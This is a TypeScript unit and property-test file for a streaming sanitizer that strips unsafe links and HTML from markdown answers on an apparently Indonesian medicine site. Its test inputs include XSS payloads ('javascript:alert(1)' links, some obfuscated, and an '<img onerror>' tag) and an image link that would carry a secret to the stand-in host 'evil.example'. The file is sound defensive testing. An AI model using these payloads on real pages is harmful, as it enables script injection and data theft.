import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

import { safeText } from './safeText'

const cleanIn = (pieces: string[]): string => {
  const { push, end } = safeText()
  return pieces.map(push).join('') + end()
}

describe('the text of an answer', () => {
  it.each([
    ['Halo, dunia! [1] (satu) a < b', 'Halo, dunia! [1] (satu) a < b'],
    ['[Paracetamol](/obat/paracetamol)', '[Paracetamol](/obat/paracetamol)'],
    ['[a](/obat/x_(y)) b', '[a](/obat/x_(y)) b'],
    ['[a](/obat/x "judul")', '[a](/obat/x)'],
    ['[BPOM](https://pom.go.id/x?y=1)', '[BPOM](https://pom.go.id/x?y=1)'],
    ['[a](javascript:alert(1)) b', '[a]  b'],
    ['[a]( javascript:alert(1))', '[a] '],
    ['[a](<javascript:alert(1)>)', '[a] '],
    ['[a](&#106;avascript:alert(1))', '[a] '],
    ['[a](//evil.example/x)', '[a] '],
    ['[a](/\\evil.example)', '[a] '],
    ['[a](http://evil.example)', '[a] '],
    ['[a](data:text/html,x)', '[a] '],
    ['![x](https://evil.example/?q=rahasia)', '! [x](https://evil.example/?q=rahasia)'],
    ['[x]: javascript:alert(1)', '[x] : javascript:alert(1)'],
    ['<img src=x onerror=alert(1)>', '‹img src=x onerror=alert(1)>'],
    ['</p><!-- x -->', '‹/p>‹!-- x -->'],
    ['<javascript:alert(1)>', '‹javascript:alert(1)>'],
    ['awas!', 'awas!'],
    ['!![x](/y)', '!! [x](/y)'],
    ['[a](x)(//evil.example)', '[a] (//evil.example)'],
    ['[a](/obat/x', '[a] (/obat/x'],
  ])('of %s leaves %s', (text, left) => {
    expect(cleanIn([text])).toBe(left)
    expect(cleanIn(text.split(/(?=.)/su))).toBe(left)
  })

  it('is the same however it was cut, and holds nothing that leads elsewhere', () => {
    const pieces = fc.array(
      fc.constantFrom(
        '[',
        ']',
        '(',
        ')',
        '!',
        '<',
        ':',
        'a',
        ' ',
        '/x',
        'javascript:',
        'https://y',
      ),
    )
    fc.assert(
      fc.property(pieces, (parts) => {
        const whole = cleanIn([parts.join('')])
        expect(cleanIn(parts)).toBe(whole)
        expect(whole).not.toMatch(/\]\(\s*<?(?!\/[^/\\]|\/\)|https:)/u)
        expect(whole).not.toMatch(/!\[|\]:|<[a-z/!?]/iu)
      }),
      { numRuns: 2_000 },
    )
  })

  it('waits for no end of a target that never comes', () => {
    const { push } = safeText()
    expect(push(`[a](${'x'.repeat(5_000)}`)).toContain('xxx')
  })
})
